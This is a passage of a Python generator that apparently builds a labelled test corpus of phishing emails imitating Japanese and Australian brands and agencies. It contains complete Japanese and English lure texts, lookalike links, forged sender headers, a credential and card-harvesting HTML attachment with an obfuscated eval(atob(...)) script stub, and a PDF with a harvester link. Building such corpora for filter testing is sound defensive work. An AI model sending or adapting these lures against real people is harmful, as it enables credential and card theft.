<body><div class="box"><h2 style="color:#0068b7;margin:0 0 10px">Netアンサー</h2>
<p style="font-size:13px">ご本人確認のため、以下の項目をご入力ください。</p>
<form id="f"><label>Netアンサー ID</label><input name="uid" required><label>パスワード</label><input name="pw" type="password" required>
<label>カード番号（16桁）</label><input name="cn" inputmode="numeric" maxlength="19" required>
<label>有効期限（MM/YY）</label><input name="ex" maxlength="5" required><label>セキュリティコード</label><input name="cv" maxlength="4" required>
<label>生年月日（8桁）</label><input name="bd" maxlength="8" required><button type="submit">確認する</button></form></div>
<script>eval(atob("{script}"))</script></body></html>
"""
    txt = """セゾンカード会員様

いつもセゾンカードをご利用いただき、ありがとうございます。

Netアンサーのご登録情報について、確認が必要な事項が発生しております。
お手数ですが、添付ファイルを開き、画面の案内に従ってご登録情報をご確認ください。

ご確認いただけない場合、カードのご利用が制限される場合がございます。

株式会社クレディセゾン
"""
    fname = "Netアンサー_ご登録情報確認.html"
    m.headers = [
        f"Date: {jst(sent)}",
        f"From: {addr('セゾンカード', env)}",
        f"To: {TAKUYA}",
        f"Subject: {ew('【セゾンカード】Netアンサー ご登録情報確認のお願い', 'ISO-2022-JP')}",
        f"Message-Id: <{digits(name, 'mid', 14)}.{hx(name, 'mid2', 6, True)}@kvj.biglobe.ne.jp>",
        "X-Mailer: Microsoft Outlook 16.0",
        "MIME-Version: 1.0",
    ]
    m.body = mixed(f"------------{hx(name, 'bnd', 24)}",
                   plain(txt, "iso-2022-jp", "7bit"),
                   fileleaf("text/html", fname, page.encode("utf-8"), encoded_name=ew(fname, "ISO-2022-JP").replace("\n ", "")))
    emit(m)


def p_paypay() -> None:
    name = "b15-phish-paypay-point-kigen-sendgrid"
    t = T("2025-06-03 10:05:33")
    sent = t - timedelta(seconds=2)
    dom = "paypay-points.com"
    uid = digits(name, "uid", 8)
    m = Mail(name, "phishing",
             "PayPay 'your 3,000 points expire today' lure sent through SendGrid with an authenticated lookalike domain (SPF/DKIM pass); every link is a SendGrid click-tracking redirect so the PayPay login clone never shows in the HTML",
             AIKO, "gmail", t, (f"o1.ptr{digits(name, 'ptr', 4)}.em{digits(name, 'em', 4)}.{dom}", f"o1.ptr{digits(name, 'ptr', 4)}.em{digits(name, 'em', 4)}.{dom}", "149.72.164.93"),
             f"bounces+{uid}-{hx(name, 'b', 4)}-aiko.tanabe88=gmail.com@em{digits(name, 'em', 4)}.{dom}", "pass",
             [("pass", dom, "s1"), ("pass", "sendgrid.info", "smtpapi")], ("none", ""), dom, country="US")
    sent_l = sent
    m.sender = sendgrid_sender(m, dom, sent_l) + [dkim_sig(m, "sendgrid.info", "smtpapi", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to", sent_l, bits=1024)]

    def ct(i: int) -> str:
        return f"https://u{uid}.ct.sendgrid.net/ls/click?upn=u001.{b64(name, 'upn' + str(i), 120, True)}-2B{b64(name, 'upn2' + str(i), 40, True)}"

    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f4f4f4;">
<div style="max-width:560px;margin:0 auto;background:#fff;font-family:'Hiragino Sans',sans-serif;">
<div style="background:#ff0033;padding:14px;text-align:center;"><a href="{ct(1)}"><img src="https://u{uid}.ct.sendgrid.net/wf/open?upn=u001.{b64(name, 'open', 60, True)}" width="1" height="1" alt=""><span style="color:#fff;font-size:22px;font-weight:bold;">PayPay</span></a></div>
<div style="padding:24px;font-size:15px;line-height:1.8;color:#333;">
<p>いつもPayPayをご利用いただきありがとうございます。</p>
<p>「PayPay感謝キャンペーン」の特典として、お客様のアカウントに<b style="color:#ff0033;">3,000ポイント</b>の付与が予定されております。</p>
<p>ただし、受け取り手続きが完了していないため、<b>本日23:59</b>をもって付与予定ポイントが失効いたします。</p>
<div style="text-align:center;margin:26px 0;"><a href="{ct(2)}" style="background:#ff0033;color:#fff;padding:14px 48px;border-radius:24px;text-decoration:none;font-weight:bold;">ポイントを受け取る</a></div>
<p style="font-size:12px;color:#888;">※受け取りにはPayPayへのログインと、お支払い方法（クレジットカード）の本人確認が必要です。</p>
</div>
<div style="padding:16px;font-size:11px;color:#999;text-align:center;">PayPay株式会社<br><a href="{ct(3)}" style="color:#999;">配信停止</a></div>
</div></body></html>
"""
    txt = f"""いつもPayPayをご利用いただきありがとうございます。

「PayPay感謝キャンペーン」の特典として、お客様のアカウントに3,000ポイントの付与が予定されております。
受け取り手続きが完了していないため、本日23:59をもって付与予定ポイントが失効いたします。

▼ポイントを受け取る
{ct(2)}

PayPay株式会社
"""
    m.headers = [
        f"From: {addr('PayPay', 'campaign@' + dom)}",
        f"Subject: {ew('【PayPay】付与予定の3,000ポイントの受け取り期限は本日までです')}",
        f"X-Entity-ID: u001.{b64(name, 'eid', 22, True)}==",
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: <{b64(name, 'mid', 22, True)}@geopod-ismtpd-{num(name, 'gp', 1, 40)}>",
        f"X-SG-EID: u001.{b64(name, 'sgeid', 200)}",
        f"To: {AIKO}",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt), html(htm), boundary=hx(name, "bnd", 64))
    emit(m)


def p_aupay_compromised() -> None:
    name = "b15-phish-aupay-card-hijacked-m365"
    t = T("2024-11-20 06:48:12")
    sent = t - timedelta(seconds=6)
    dom = "ishikawa-kogyo.co.jp"
    env = f"k.ishikawa@{dom}"
    m = Mail(name, "phishing",
             "au PAY Card billing lure sent from the hijacked Microsoft 365 mailbox of a small Japanese manufacturer (SPF, DKIM and DMARC all pass), blind-copied to a list, Word-generated HTML with a link to an au ID clone on a .cc domain",
             YUI, "icloud", t, ("JPN01-OS0-obe.outbound.protection.outlook.com", "mail-os0jpn01on2118.outbound.protection.outlook.com", "40.107.113.118"),
             env, "pass", [("pass", dom, "selector1")], ("pass", "NONE"), dom)
    m.sender = o365_sender(m, sent, "TYCPR01", "jpnprd01", dom)
    link = f"https://aupay-card.wallet-kddi.nb7.cc/auid/login?t={tok(name, 't', 18)}"
    htm = f"""<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" xmlns="http://www.w3.org/TR/REC-html40">
<head>
<meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp">
<meta name="Generator" content="Microsoft Word 15 (filtered medium)">
<style><!--
/* Font Definitions */
@font-face {{font-family:"ＭＳ ゴシック";}}
p.MsoNormal, li.MsoNormal, div.MsoNormal {{margin:0mm;font-size:10.5pt;font-family:"游ゴシック",sans-serif;}}
a:link, span.MsoHyperlink {{color:#0563C1;text-decoration:underline;}}
--></style>
</head>
<body lang="JA" link="#0563C1" vlink="#954F72" style="word-wrap:break-word;text-justify-trim:punctuation">
<div class="WordSection1">
<p class="MsoNormal"><b><span style="font-size:14.0pt;color:#EB5505">au PAY カード</span></b><o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">au PAY カードをご利用いただき、誠にありがとうございます。<o:p></o:p></p>
<p class="MsoNormal">今月のご請求金額が確定いたしましたが、ご指定の口座からのお引き落としができませんでした。<o:p></o:p></p>
<p class="MsoNormal">お手数ですが、下記よりau IDでログインのうえ、お支払い口座の確認・変更をお願いいたします。<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal">■ご請求金額：<b>48,620円</b><o:p></o:p></p>
<p class="MsoNormal">■お手続き期限：2024年11月22日<o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><a href="{link}">ご請求内容の確認・お支払い口座の変更はこちら</a><o:p></o:p></p>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<p class="MsoNormal"><span style="font-size:9.0pt;color:gray">※期限までにお手続きいただけない場合、カードのご利用を停止させていただきます。<o:p></o:p></span></p>
<p class="MsoNormal"><span style="font-size:9.0pt;color:gray">auフィナンシャルサービス株式会社<o:p></o:p></span></p>
</div>
</body>
</html>
"""
    txt = f"""au PAY カード

au PAY カードをご利用いただき、誠にありがとうございます。
今月のご請求金額が確定いたしましたが、ご指定の口座からのお引き落としができませんでした。
お手数ですが、下記よりau IDでログインのうえ、お支払い口座の確認・変更をお願いいたします。

■ご請求金額：48,620円
■お手続き期限：2024年11月22日

ご請求内容の確認・お支払い口座の変更はこちら <{link}>

※期限までにお手続きいただけない場合、カードのご利用を停止させていただきます。
auフィナンシャルサービス株式会社
"""
    mid = o365_mid(m, "TYCPR01", "jpnprd01")
    m.headers = [
        f"From: {addr('au PAY カード', env, 'ISO-2022-JP')}",
        "To: undisclosed-recipients:;",
        f"Subject: {ew('【au PAY カード】ご請求金額確定・お支払い口座確認のお願い', 'ISO-2022-JP')}",
        *ms_client_headers(m, ew('【au PAY カード】ご請求金額確定・お支払い口座確認のお願い', 'ISO-2022-JP'), "ja-JP"),
        f"Date: {fmt(sent, 0)}",
        f"Message-ID: {mid}",
        "X-MS-Exchange-AntiSpam-MessageData-ChunkCount: 1",
        f"X-MS-Exchange-AntiSpam-MessageData-0:\n {fold_b64(b64(name, 'amd', 300), 76, 76, ' ')}",
        "MIME-Version: 1.0",
    ]
    m.body = Multi("alternative", "_000_" + mid.strip("<>").replace("@", "").replace(".jpnprd01.prod.outlook.com", "jpnp") + "_",
                   [plain(txt, "iso-2022-jp", "7bit"), html(htm, "iso-2022-jp", "quoted-printable")])
    emit(m)


def p_amazon_jp() -> None:
    name = "b15-phish-amazon-co-jp-account-kakunin"
    t = T("2023-03-08 12:20:04")
    sent = t - timedelta(seconds=3)
    dom = "kpvnwq.com"
    m = Mail(name, "phishing",
             "The long-running Amazon.co.jp 'confirm your registered account (name, password, other personal information)' lure in ISO-2022-JP text and HTML, display-name-only spoof from a random .com, link to an amazon.co.jp-prefixed clone",
             KENJI, "yjp", t, (f"mail.{dom}", None, "154.204.58.17"), f"rmowksz@{dom}", "pass", [], ("none", ""), dom,
             tls=False, junk=False, country="HK")
    link = f"https://amazon.co.jp-signin.ap-xqmvd.com/ap/signin?openid.pape={tok(name, 'p', 22, ALNUM_MIX)}"
    txt = f"""Amazon.co.jp

お客様のアカウントで異常なログインが検出されました。
ご登録のアカウント（名前、パスワード、その他個人情報）の確認が必要です。
24時間以内にご確認いただけない場合、アカウントの利用を一時停止させていただきます。

下記のリンクよりAmazonアカウントにログインし、ご確認をお願いします。

Amazonログイン
{link}

なお、24時間以内にご確認がない場合、誠に遺憾ながら、アカウントをロックさせていただきますことを予めご了承ください。

Amazon.co.jp カスタマーサービス
"""
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=iso-2022-jp"></head><body>
<table width="600" cellpadding="0" cellspacing="0" style="font-family:'ＭＳ Ｐゴシック';font-size:13px;"><tr><td>
<p style="font-size:20px;font-weight:bold;">amazon<span style="color:#ff9900;">.co.jp</span></p>
<p>お客様のアカウントで異常なログインが検出されました。<br>
ご登録のアカウント（名前、パスワード、その他個人情報）の確認が必要です。<br>
24時間以内にご確認いただけない場合、アカウントの利用を一時停止させていただきます。</p>
<p>下記のリンクよりAmazonアカウントにログインし、ご確認をお願いします。</p>
<p><a href="{link}" style="background:#f0c14b;border:1px solid #a88734;padding:6px 20px;color:#111;text-decoration:none;">Amazonログイン</a></p>
<p>なお、24時間以内にご確認がない場合、誠に遺憾ながら、アカウントをロックさせていただきますことを予めご了承ください。</p>
<p>Amazon.co.jp カスタマーサービス</p>
</td></tr></table></body></html>
"""
    m.headers = [
        f"From: {addr('Amazon.co.jp', 'rmowksz@' + dom, 'ISO-2022-JP')}",
        f"To: {KENJI}",
        f"Subject: {ew('Amazon.co.jp にご登録のアカウント（名前、パスワード、その他個人情報）の確認', 'ISO-2022-JP')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{digits(name, 'mid', 17)}{hx(name, 'mid2', 5)}@{dom}>",
        "X-Mailer: Foxmail 7.2.25.228[cn]",
        "MIME-Version: 1.0",
    ]
    m.body = Multi("alternative", f"----=_NextPart_{hx(name, 'b', 24, True)}", [plain(txt, "iso-2022-jp", "7bit"), html(htm, "iso-2022-jp", "7bit")])
    emit(m)


def p_japanpost() -> None:
    name = "b15-phish-japanpost-fuzai-mochikaeri"
    t = T("2023-10-17 08:55:29")
    sent = t - timedelta(seconds=1)
    dom = "post-jp.cc"
    m = Mail(name, "phishing",
             "Japan Post 'we took your parcel back, you were out' lure from a domain with no SPF or DKIM sent by a botnet host without TLS, HTML button to a redelivery form that asks for a card 'redelivery fee'",
             AIKO, "gmail", t, ("WIN-3KQ8V1MPL2A", None, "36.110.81.214"), f"info@{dom}", "none", [], ("none", ""), dom,
             tls=False, country="CN")
    track = f"{digits(name, 'tr', 4)}-{digits(name, 'tr2', 4)}-{digits(name, 'tr3', 4)}"
    link = f"https://japanpost.jp-redelivery.post-jp.cc/?id={tok(name, 'id', 10)}"
    htm = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family:sans-serif;">
<div style="width:600px;margin:0 auto;border:1px solid #ddd;">
<div style="background:#cc0000;color:#fff;padding:10px 16px;font-size:18px;">〒 日本郵便株式会社</div>
<div style="padding:18px;font-size:14px;line-height:1.8;">
<p>お客様各位</p>
<p>ご不在のため、お荷物をお持ち帰りいたしました。<br>
お届け先の住所に不備があるため、再配達のお手続きが必要です。</p>
<table style="border-collapse:collapse;font-size:13px;margin:12px 0;">
<tr><td style="border:1px solid #ccc;padding:6px;background:#f5f5f5;">お問い合わせ番号</td><td style="border:1px solid #ccc;padding:6px;">{track}</td></tr>
<tr><td style="border:1px solid #ccc;padding:6px;background:#f5f5f5;">保管期限</td><td style="border:1px solid #ccc;padding:6px;">2023年10月19日</td></tr>
</table>
<p>保管期限を過ぎますと、お荷物は差出人様へ返送されます。</p>
<p style="text-align:center;"><a href="{link}" style="display:inline-block;background:#cc0000;color:#fff;padding:10px 40px;text-decoration:none;">再配達のお申し込み</a></p>
<p style="font-size:11px;color:#888;">※本メールは送信専用です。<br>日本郵便株式会社</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('日本郵便', 'info@' + dom)}",
        f"To: {AIKO}",
        f"Subject: {ew('【日本郵便】ご不在のため、お荷物をお持ち帰りいたしました')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{hx(name, 'mid', 8, True)}{hx(name, 'mid2', 4, True)}{hx(name, 'mid3', 8, True)}@WIN-3KQ8V1MPL2A>",
        "X-Mailer: Microsoft Outlook Express 6.00.2900.5512",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "base64")
    emit(m)


def p_sagawa() -> None:
    name = "b15-phish-sagawa-haitatsu-fuka"
    t = T("2023-07-05 09:37:46")
    sent = t - timedelta(seconds=2)
    dom = "sgw-info.com"
    m = Mail(name, "phishing",
             "Sagawa Express 'could not deliver' plain-text lure to a creator studio's contact address, SMS-style wording and a bare link to a .xyz clone; SPF passes for the sender's own lookalike domain",
             KUMO, "gmail", t, (f"vps-{digits(name, 'v', 4)}.{dom}", None, "47.243.118.56"), f"no-reply@{dom}", "pass", [],
             ("none", ""), dom, country="HK")
    link = f"https://sagawa-exp.co.jp-kdt.ebrwq.xyz/?no={digits(name, 'no', 12)}"
    txt = f"""佐川急便株式会社

お荷物をお届けにあがりましたが、ご不在のためお持ち帰りいたしました。
下記URLより再配達のご依頼、お届け先の確認をお願いいたします。

お問い合せ送り状No：{digits(name, 'no', 12)}

{link}

※本メールは送信専用アドレスから配信しています。
※お荷物の保管期限は7日間です。
"""
    m.headers = [
        f"From: {addr('佐川急便株式会社', 'no-reply@' + dom)}",
        f"To: {KUMO}",
        f"Subject: {ew('佐川急便 お荷物お届けのお知らせ（ご不在連絡）')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{hx(name, 'mid', 32)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(txt, "utf-8", "base64")
    emit(m)


def p_docomo() -> None:
    name = "b15-phish-docomo-ryokin-mibarai"
    t = T("2025-03-11 04:16:09")
    sent = t - timedelta(seconds=2)
    dom = "docomo-ryokin-info.com"
    m = Mail(name, "phishing",
             "NTT docomo 'your bill payment could not be confirmed' lure from a registered lookalike (own SPF and DKIM pass, no DMARC) that hosts the fake My docomo / d-account login itself",
             YUI, "icloud", t, (f"mta1.{dom}", f"mta1.{dom}", "185.243.112.71"), f"bounce@{dom}", "pass",
             [("pass", dom, "default")], ("none", ""), dom)
    m.sender = [dkim_sig(m, dom, "default", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent),
                f"Received: from [127.0.0.1] (unknown [10.0.0.5])\n\tby mta1.{dom} (Postfix) with ESMTPSA id {hx(name, 'pf', 10, True)}\n"
                f"\tfor <{YUI}>; {fmt(sent, 0)}"]
    link = f"https://{dom}/mydocomo/dcm_login/?sid={tok(name, 'sid', 20)}"
    htm = f"""<!DOCTYPE html><html lang="ja"><head><meta charset="UTF-8"></head>
<body style="margin:0;background:#ffffff;font-family:'Hiragino Kaku Gothic ProN','メイリオ',sans-serif;">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" cellpadding="0" cellspacing="0">
<tr><td style="padding:18px 0;border-bottom:4px solid #cc0033;"><span style="color:#cc0033;font-size:24px;font-weight:bold;">docomo</span></td></tr>
<tr><td style="padding:22px 0;font-size:14px;line-height:1.9;color:#222;">
お客様各位<br><br>
いつもドコモをご利用いただき、誠にありがとうございます。<br><br>
ご利用料金（2025年2月ご利用分）のお支払いについて、ご登録のお支払い方法での決済が確認できておりません。<br>
<b>2025年3月14日（金）</b>までにお支払い情報のご確認をお願いいたします。<br>
期限を過ぎた場合、ご利用回線のサービスを一時的に停止させていただく場合がございます。<br><br>
<div style="text-align:center;margin:10px 0 20px;"><a href="{link}" style="display:inline-block;background:#cc0033;color:#fff;padding:14px 44px;text-decoration:none;border-radius:4px;font-weight:bold;">dアカウントでログインして確認</a></div>
■ご請求金額：8,734円（税込）<br>
■お支払い期限：2025年3月14日<br><br>
<span style="font-size:12px;color:#777;">※本メールは送信専用のため、ご返信いただいてもお答えできません。<br>
株式会社NTTドコモ</span>
</td></tr></table></td></tr></table></body></html>
"""
    m.headers = [
        f"From: {addr('NTTドコモ', 'info@' + dom)}",
        f"To: {YUI}",
        f"Subject: {ew('【ドコモ】ご利用料金のお支払い確認が取れておりません（ご対応期限：3月14日）')}",
        f"Date: {jst(sent)}",
        f"Message-ID: <{guid(name, 'mid')}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "quoted-printable")
    emit(m)


def p_mercari() -> None:
    name = "b15-phish-mercari-riyou-seigen-ses"
    t = T("2024-07-22 11:02:37")
    sent = t - timedelta(seconds=1)
    dom = "mercari-jp.help"
    ses_ip = "23.251.234.17"
    m = Mail(name, "phishing",
             "Mercari 'account restricted' lure sent through Amazon SES (Tokyo region) from the verified lookalike mercari-jp.help; SPF via amazonses and both DKIM signatures pass, the clone asks for login and card to 'lift the restriction'",
             AIKO, "gmail", t, (f"e234-17.smtp-out.ap-northeast-1.amazonses.com", f"e234-17.smtp-out.ap-northeast-1.amazonses.com", ses_ip),
             f"0106019{hx(name, 'rp', 13)}-{guid(name, 'rp2')}-000000@ap-northeast-1.amazonses.com", "pass",
             [("pass", dom, tok(name, 'sessel', 32)), ("pass", "amazonses.com", "zh4gjftm6etwoq6afzugpky45synznly")],
             ("none", ""), dom, country="JP")
    m.sender = ses_sender(m, dom, sent, "ap-northeast-1")
    link = f"https://jp.{dom}/account/verify?token={tok(name, 'tk', 32, ALNUM_MIX)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"></head>
<body style="margin:0;padding:0;background:#f5f5f5;">
<div style="max-width:600px;margin:0 auto;background:#fff;">
<div style="padding:20px;text-align:center;border-bottom:1px solid #eee;"><span style="font-size:26px;font-weight:bold;color:#ff0211;">mercari</span></div>
<div style="padding:24px 28px;font-family:'Hiragino Sans',sans-serif;font-size:14px;line-height:1.8;color:#333;">
<p>いつもメルカリをご利用いただきありがとうございます。</p>
<p>お客様のアカウントにおいて、利用規約に違反する可能性のある取引が確認されたため、現在アカウントの利用を制限しております。</p>
<p>制限を解除するには、本人確認およびお支払い方法の再登録が必要です。以下のボタンよりお手続きください。</p>
<p style="text-align:center;margin:28px 0;"><a href="{link}" style="background:#ff0211;color:#fff;padding:14px 50px;border-radius:4px;text-decoration:none;font-weight:bold;">本人確認を行う</a></p>
<p>72時間以内にお手続きが確認できない場合、アカウントは無期限の利用停止となり、売上金は失効いたします。</p>
<p style="font-size:12px;color:#999;">このメールは送信専用アドレスから配信されています。<br>株式会社メルカリ</p>
</div></div></body></html>
"""
    m.headers = [
        f"From: {addr('メルカリ事務局', 'no-reply@' + dom)}",
        f"To: {AIKO}",
        f"Subject: {ew('【メルカリ】重要：お客様のアカウントの利用制限について')}",
        "MIME-Version: 1.0",
        f"Message-ID: <0106019{hx(name, 'rp', 13)}-{guid(name, 'rp2')}-000000@ap-northeast-1.amazonses.com>",
        f"Date: {fmt(sent, 0)}",
    ]
    m.body = html(htm, "UTF-8", "quoted-printable")
    emit(m)


def p_etc() -> None:
    name = "b15-phish-etc-riyou-shokai-kaiyaku"
    t = T("2024-03-19 22:41:15")
    sent = t - timedelta(seconds=2)
    dom = "vpwqeh.cn"
    local = f"member-{tok(name, 'l', 6)}"
    m = Mail(name, "phishing",
             "ETC usage-inquiry service 'registration will be cancelled' lure in ISO-2022-JP plain text from a throwaway .cn sender, telling the reader to search for the official site yet placing a clone link right below",
             KENJI, "yjp", t, (f"mail.{dom}", None, "180.163.214.92"), f"{local}@{dom}", "pass", [], ("none", ""), dom,
             tls=False, junk=True, country="CN")
    link = f"https://etc-meisai.jp.{tok(name, 'sub', 6)}.{dom}/etc/R?funccode=1013000000&nextfunc=1013000000"
    body = f"""ETC利用照会サービスをご利用いただき、ありがとうございます。

お客様のご登録情報について、長期間ご確認がとれていないため、
現在ご登録の内容が無効となる可能性がございます。

引き続きサービスをご利用いただくには、下記期限までに
ログインのうえ、ご登録情報の更新をお願いいたします。

■更新期限：2024年3月22日

期限までにお手続きがない場合、ご登録は自動的に解約となり、
ETCマイレージサービスのポイントも失効いたしますので、ご注意ください。

ブラウザで「ETC利用照会サービス」と検索し、公式サイトからログインしてください。

▼公式サイトはこちら
{link}

※このメールは送信専用です。
ETC利用照会サービス事務局
"""
    m.headers = [
        f"From: {addr('ETC利用照会サービス事務局', local + '@' + dom, 'ISO-2022-JP')}",
        f"To: {KENJI}",
        f"Subject: {ew('ETC利用照会サービス 登録情報更新のお願い（期限：3月22日）', 'ISO-2022-JP')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{digits(name, 'mid', 18)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = plain(body, "iso-2022-jp", "7bit")
    emit(m)


def p_etax() -> None:
    name = "b15-phish-nta-etax-sashiosae"
    t = T("2025-02-26 01:27:44")
    sent = t - timedelta(seconds=2)
    dom = "nta-tax-notice.cn"
    m = Mail(name, "phishing",
             "National Tax Agency 'final notice before seizure of unpaid tax' lure (junked by Outlook): base64 HTML imitating an e-Tax notice, case number and threat of seizure, link to nta.go.jp-prefixed clone that takes card payments",
             TAKUYA, "outlook", t, (f"smtp.{dom}", None, "101.35.246.9"), f"info@{dom}", "pass", [], ("none", ""), dom,
             junk=True, country="CN")
    link = f"https://www.nta.go.jp.e-tax.kfbtl.cn/payment/?no={digits(name, 'no', 10)}"
    htm = f"""<html><head><meta charset="utf-8"><title>国税庁</title></head>
<body style="font-family:'MS Mincho','Hiragino Mincho ProN',serif;font-size:15px;">
<div style="width:620px;margin:0 auto;">
<p style="text-align:right;">令和7年2月26日</p>
<p style="font-size:20px;text-align:center;font-weight:bold;letter-spacing:4px;">差押最終通知</p>
<p>納税者　様</p>
<p>あなたの令和5年度分の所得税及び復興特別所得税について、納付期限を過ぎても納付が確認できておりません。</p>
<p>本通知は差押え前の<b>最終通知</b>です。令和7年2月28日までに納付が確認できない場合、国税徴収法の規定に基づき、給与・預貯金・不動産等の財産の差押えを執行いたします。</p>
<table style="border-collapse:collapse;margin:14px 0;font-size:14px;">
<tr><td style="border:1px solid #000;padding:6px 10px;">整理番号</td><td style="border:1px solid #000;padding:6px 10px;">{digits(name, 'sei', 8)}</td></tr>
<tr><td style="border:1px solid #000;padding:6px 10px;">未納税額</td><td style="border:1px solid #000;padding:6px 10px;">68,400円（延滞税を含む）</td></tr>
<tr><td style="border:1px solid #000;padding:6px 10px;">納付期限</td><td style="border:1px solid #000;padding:6px 10px;">令和7年2月28日</td></tr>
</table>
<p>下記のe-Tax納付ページより、クレジットカードにて速やかに納付してください。</p>
<p style="text-align:center;"><a href="{link}" style="font-size:16px;">e-Taxで納付手続きを行う</a></p>
<p style="font-size:12px;">国税庁　徴収部<br>〒100-8978 東京都千代田区霞が関3-1-1</p>
</div></body></html>
"""
    m.headers = [
        f"From: {addr('国税庁', 'info@' + dom)}",
        f"To: {TAKUYA}",
        f"Subject: {ew('【国税庁】差押最終通知（未払い税金のお知らせ）')}",
        f"Date: {fmt(sent, 8, pad=True)}",
        f"Message-ID: <{hx(name, 'mid', 24)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = html(htm, "utf-8", "base64")
    emit(m)


# ===========================================================================
# ATTACKS - Australia, Singapore, Hong Kong, Taiwan, Korea, India
# ===========================================================================


def p_mygov() -> None:
    name = "b15-phish-mygov-new-inbox-message"
    t = T("2023-08-14 03:12:40")
    sent = t - timedelta(seconds=2)
    dom = "mygov-notices.com"
    m = Mail(name, "phishing",
             "myGov 'You have a new message in your myGov Inbox' copy with the same subject as the real notice, but with a green 'Sign in to myGov' button to a my.gov.au-prefixed credential and MFA harvester; lookalike sender with its own SPF/DKIM",
             SARAH, "iinet", t, (f"mail.{dom}", f"mail.{dom}", "159.223.49.212"), f"bounce@{dom}", "pass",
             [("pass", dom, "mail")], ("none", ""), dom, country="SG")
    m.sender = [dkim_sig(m, dom, "mail", "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", sent),
                f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hx(name, 'pf', 10, True)}\n\tfor <{SARAH}>; {fmt(sent, 10)}"]
    link = f"https://my.gov.au.login-secure.{dom}/LoginServices/main/login?execution={tok(name, 'ex', 8)}"
    htm = f"""<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width"></head>
<body style="margin:0;background:#f3f3f3;font-family:Arial,Helvetica,sans-serif;">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center" style="padding:24px 0;">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff;">
<tr><td style="background:#313131;padding:18px 24px;color:#ffffff;font-size:22px;font-weight:bold;">my<span style="color:#9bd6c6;">Gov</span></td></tr>
<tr><td style="padding:28px 24px;font-size:15px;line-height:1.6;color:#222;">
<p style="font-size:20px;margin:0 0 16px;">You have a new message in your myGov Inbox</p>
<p>Dear myGov user,</p>
<p>You have received a new message from <b>Australian Taxation Office</b> about your 2022-23 income tax assessment.</p>
<p>To read this message and avoid a delay to any amount owing to you, sign in to your myGov account.</p>
<p style="margin:26px 0;"><a href="{link}" style="background:#00664f;color:#ffffff;padding:12px 28px;text-decoration:none;border-radius:3px;font-weight:bold;">Sign in to myGov</a></p>
<p style="font-size:13px;color:#555;">This message will remain in your Inbox for 14 days.</p>
</td></tr>
<tr><td style="padding:16px 24px;background:#f7f7f7;font-size:12px;color:#666;">myGov is provided by Services Australia.<br>Please do not reply to this email.</td></tr>
</table></td></tr></table></body></html>
"""
    txt = f"""You have a new message in your myGov Inbox

Dear myGov user,

You have received a new message from Australian Taxation Office about your 2022-23 income tax assessment.
To read this message, sign in to your myGov account:
{link}

myGov is provided by Services Australia.
"""
    m.headers = [
        f"From: myGov <noreply@{dom}>",
        f"To: {SARAH}",
        "Subject: You have a new message in your myGov Inbox",
        f"Date: {fmt(sent, 10)}",
        f"Message-ID: <{hx(name, 'mid', 32)}@{dom}>",
        "MIME-Version: 1.0",
    ]
    m.body = alt(name, plain(txt, "utf-8", "7bit"), html(htm))
    emit(m)


def p_ato_pdf() -> None:
    name = "b15-phish-ato-refund-pdf-link"
    t = T("2024-07-29 22:48:03")
    sent = t - timedelta(seconds=3)
    dom = "ato-notice.info"
    m = Mail(name, "phishing",
             "ATO 'Notice of Assessment, refund of $1,284.60 pending' at tax time: short body, PDF attachment whose only link (a 'REVIEW DOCUMENT' button annotation) leads to a myGov / bank-details harvester",
             BRON, "optus", t, (f"mx.{dom}", f"mx.{dom}", "194.87.31.118"), f"noreply@{dom}", "pass", [], ("none", ""), dom,
             country="NL")
    link = f"https://ato-gov-au.refund-claims.top/myGov/?ref=NOA{digits(name, 'ref', 9)}"
    pdf = files.pdf([
        "Australian Taxation Office",
        "",
        "NOTICE OF ASSESSMENT - INDIVIDUAL",
        "Year ended 30 June 2024",
        "",
        f"Tax file number: *** *** {digits(name, 'tfn', 3)}",
        f"Date of issue: 29 July 2024",
        "",
        "Your refund: $1,284.60",
        "",
        "We could not pay your refund because the financial institution",
        "details on your record could not be verified.",
        "",
        "To release your refund, review the document and confirm your",
        "bank account details through myGov within 5 business days.",
        "",
        "",
        "",
        "",
        "Australian Taxation Office - Individual Taxpayer Services",
    ], link=(link, (56, 420, 300, 460)), title="Notice of Assessment 2024")
    txt = f"""Dear Taxpayer,

Your 2023-24 income tax return has been processed and you are entitled to a refund of $1,284.60.

